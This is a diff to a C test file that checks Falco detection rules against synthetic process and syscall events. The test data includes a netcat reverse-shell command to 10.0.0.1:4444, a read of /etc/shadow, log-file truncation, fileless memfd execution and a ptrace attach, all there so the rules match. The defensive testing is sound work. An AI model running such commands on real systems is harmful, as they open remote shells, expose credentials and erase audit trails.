@@ -10,7 +10,12 @@
 #include <string.h>
 #include <unistd.h>
 
+#include <fcntl.h>
+
+#include "container/container.h"
 #include "helpers.h"
+#include "state/fd_table.h"
+#include "vigil/syscalls.h"
 
 static const char *dir = FALCO_RULES_DIR;
 
@@ -86,6 +91,170 @@ static void test_counts_match_the_files(void **state)
 	vg_ruleset_free(rs);
 }
 
+/* ---- Falco's own rules against synthetic events ---- */
+
+static struct vg_ruleset *falco_rs;
+
+static int load_falco(void **state)
+{
+	struct vg_ruleset_opts o = {.match_all = true,
+				    .passwd_path = TEST_DATA_DIR "/passwd",
+				    .group_path = TEST_DATA_DIR "/group"};
+	char path[1024];
+
+	(void)state;
+	falco_rs = vg_ruleset_new(&o);
+	snprintf(path, sizeof(path), "%s/falco_rules.yaml", dir);
+	vg_ruleset_load_path(falco_rs, path);
+	return vg_ruleset_compile(falco_rs) == 0 ? 0 : -1;
+}
+
+static int free_falco(void **state)
+{
+	(void)state;
+	vg_ruleset_free(falco_rs);
+	return 0;
+}
+
+static bool collect(const struct vg_rule *r, const struct vg_eval_ctx *ctx, void *arg)
+{
+	(void)ctx;
+	strncat(arg, vg_rule_name(r), 1000 - strlen(arg));
+	strncat(arg, ";", 1000 - strlen(arg));
+	return true;
+}
+
+/* The rules (of falco_rules.yaml) the event matches, ";"-separated. */
+static const char *matches(struct th_world *w)
+{
+	static char names[1024];
+
+	names[0] = '\0';
+	vg_ruleset_eval(falco_rs, &w->ctx, collect, names);
+	return names;
+}
+
+/* The host "container", as vg_container_host() gives it (not linked here). */
+static const struct vg_container *vg_container_host_for_tests(void)
+{
+	static const struct vg_container host = {.id = "host",
+						 .full_id = (char *)"host",
+						 .name = (char *)"host",
+						 .type = VG_CT_HOST,
+						 .metadata_found = true};
+
+	return &host;
+}
+
+static struct vg_container in_container = {.id = "0123456789ab",
+					   .full_id = (char *)"0123456789abcdef",
+					   .name = (char *)"web",
+					   .type = VG_CT_DOCKER,
+					   .image_repository = (char *)"docker.io/library/nginx",
+					   .metadata_found = true};
+
+static void test_terminal_shell_in_container(void **state)
+{
+	static struct th_world w;
+	static const char args[] = "bash";
+
+	(void)state;
+	th_world_init(&w, VG_EV_EXEC);
+	strcpy(w.procs[3].comm, "bash");
+	th_set_args(&w, args, sizeof(args));
+	strcpy(w.procs[2].comm, "containerd-shim");
+	w.ctx.container = &in_container;
+	assert_non_null(strstr(matches(&w), "Terminal shell in container;"));
+	/* the same on the host, or without a terminal, does not match */
+	w.ctx.container = vg_container_host_for_tests();
+	assert_null(strstr(matches(&w), "Terminal shell in container;"));
+	w.ctx.container = &in_container;
+	w.procs[3].tty = 0;
+	assert_null(strstr(matches(&w), "Terminal shell in container;"));
+}
+
+static void test_netcat_in_container(void **state)
+{
+	static struct th_world w;
+	static const char args[] = "nc\0-e\0/bin/sh\0"
+				   "10.0.0.1\0"
+				   "4444";
+
+	(void)state;
+	th_world_init(&w, VG_EV_EXEC);
+	strcpy(w.procs[3].comm, "nc");
+	th_set_args(&w, args, sizeof(args));
+	w.ctx.container = &in_container;
+	assert_non_null(strstr(matches(&w), "Netcat Remote Code Execution in Container;"));
+}
+
+static void test_fileless_execution(void **state)
+{
+	static struct th_world w;
+
+	(void)state;
+	th_world_init(&w, VG_EV_EXEC);
+	w.procs[3].exe = (char *)"/memfd:payload (deleted)";
+	assert_non_null(strstr(matches(&w), "Fileless execution via memfd_create;"));
+}
+
+static void test_sensitive_file_and_log_clearing(void **state)
+{
+	static struct th_world w;
+	static struct vg_syscall_body sc;
+	static struct vg_fd fd;
+
+	(void)state;
+	th_world_init(&w, VG_EV_SYSCALL);
+	memset(w.ev.var, 0, sizeof(w.ev.var));
+	sc.id = VG_SC_openat;
+	sc.args[2] = O_RDONLY;
+	w.ev.sc = &sc;
+	w.hdr.retval = 3;
+	fd.num = 3;
+	fd.type = VG_FDT_FILE;
+	fd.name = (char *)"/etc/shadow";
+	fd.open_flags = O_RDONLY;
+	w.ev.fd = &fd;
+	w.ev.path_abs = fd.name;
+	assert_non_null(strstr(matches(&w), "Read sensitive file untrusted;"));
+	/* truncating a log file */
+	sc.args[2] = fd.open_flags = O_WRONLY | O_TRUNC;
+	fd.name = (char *)"/var/log/syslog";
+	w.ev.path_abs = fd.name;
+	assert_non_null(strstr(matches(&w), "Clear Log Activities;"));
+	assert_null(strstr(matches(&w), "Read sensitive file untrusted;"));
+}
+
+static void test_ptrace_attach(void **state)
+{
+	static struct th_world w;
+	static struct vg_syscall_body sc;
+
+	(void)state;
+	th_world_init(&w, VG_EV_SYSCALL);
+	memset(w.ev.var, 0, sizeof(w.ev.var));
+	sc.id = VG_SC_ptrace;
+	sc.args[0] = 16; /* PTRACE_ATTACH */
+	w.ev.sc = &sc;
+	assert_non_null(strstr(matches(&w), "PTRACE attached to process;"));
+	sc.args[0] = 1; /* PTRACE_PEEKTEXT */
+	assert_null(strstr(matches(&w), "PTRACE attached to process;"));
+}
+
+static void test_benign_exec(void **state)
+{
+	static struct th_world w;
+	static const char args[] = "ls\0-l";
+
+	(void)state;
+	th_world_init(&w, VG_EV_EXEC);
+	strcpy(w.procs[3].comm, "ls");
+	w.procs[3].exe = (char *)"/usr/bin/ls";
+	th_set_args(&w, args, sizeof(args));
+	assert_string_equal(matches(&w), "");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -93,6 +262,15 @@ int main(void)
 		cmocka_unit_test(test_usual_combinations),
 		cmocka_unit_test(test_counts_match_the_files),
 	};
+	const struct CMUnitTest semantics[] = {
+		cmocka_unit_test(test_terminal_shell_in_container),
+		cmocka_unit_test(test_netcat_in_container),
+		cmocka_unit_test(test_fileless_execution),
+		cmocka_unit_test(test_sensitive_file_and_log_clearing),
+		cmocka_unit_test(test_ptrace_attach),
+		cmocka_unit_test(test_benign_exec),
+	};
+	int failed;
 	char path[1024];
 
 	snprintf(path, sizeof(path), "%s/falco_rules.yaml", dir);
@@ -100,5 +278,6 @@ int main(void)
 		printf("SKIP: Falco rule files not found in %s\n", dir);
 		return 77;
 	}
-	return cmocka_run_group_tests(tests, NULL, NULL);
+	failed = cmocka_run_group_tests(tests, NULL, NULL);
+	return failed + cmocka_run_group_tests(semantics, load_falco, free_falco);
 }
